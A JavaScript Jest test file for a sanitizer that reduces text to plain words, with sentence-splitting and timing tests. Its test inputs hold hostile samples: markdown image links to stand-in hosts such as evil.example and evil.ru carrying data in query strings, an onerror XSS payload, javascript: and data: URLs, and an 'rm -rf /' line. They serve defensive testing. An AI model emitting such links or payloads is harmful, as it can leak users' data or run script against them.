import { describe, expect, it } from '@jest/globals';
import { plainProse } from './plain-prose.js';
import { SentenceCutter } from './sentences.js';

describe('plainProse', () => {
  it.each([
    ['Hay ![x](https://evil.example/?d=19) 19 fallas.', 'Hay 19 fallas.'],
    ['See [the report](https://evil.example/19) now.', 'See the report now.'],
    ['See [the report][1].\n[1]: https://evil.example/19', 'See the report.'],
    ['Ve a https://evil.example/?q=19 ya.', 'Ve a ya.'],
    ['Ve a www.evil.example/x y a evil.com/y.', 'Ve a y a'],
    ['<img src=x onerror=alert(1)>19 fallas', '19 fallas'],
    ['<script>alert(1)', 'alert(1)'],
    ['**19** `fallas` _hoy_', '19 fallas hoy'],
    ['```\nrm -rf /\n``` listo', 'listo'],
    ['19\u202e fallas\u200b hoy\u0007', '19 fallas hoy'],
    ['![a [b]](//evil.ru/?d=19) 19 fallas', '![a [b]] (//evil.ru/?d=19) 19 fallas'],
    ['!*[x]*(//evil.ru/?d=19) !`[x]`[1] 19', '![x] (//evil.ru/?d=19)![x] [1] 19'],
    ['![x](//evil.ru/(a)?d=19)', '(//evil.ru/(a)?d=19)'],
    ['javascript:alert(1) data:text/html;base64,xx fin', 'fin'],
  ])('leaves words only: %s', (text, plain) => expect(plainProse(text)).toBe(plain));

  it.each(['[', '![', '![](', '[a](', '[a][', 'a.', 'a-', '\n', '\n[a]: ', '<', '`', ' .', 'www.'])(
    'takes no longer for a text of nothing but %j than for any other',
    (part) => {
      const started = performance.now();
      plainProse(part.repeat(100_000 / part.length));
      expect(performance.now() - started).toBeLessThan(2_000);
    },
  );
});

describe('SentenceCutter', () => {
  it('gives whole sentences, whatever the pieces', () => {
    const text = 'Hay 1,234.5 horas. ¿Más? Sí. Son 3.';
    for (const size of [1, 3, 7, 100]) {
      const cutter = new SentenceCutter();
      const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
      const sentences = [...pieces.flatMap((piece) => cutter.add(piece)), ...cutter.end()];
      expect(sentences).toEqual(['Hay 1,234.5 horas.', '¿Más?', 'Sí.', 'Son 3.']);
    }
  });
});
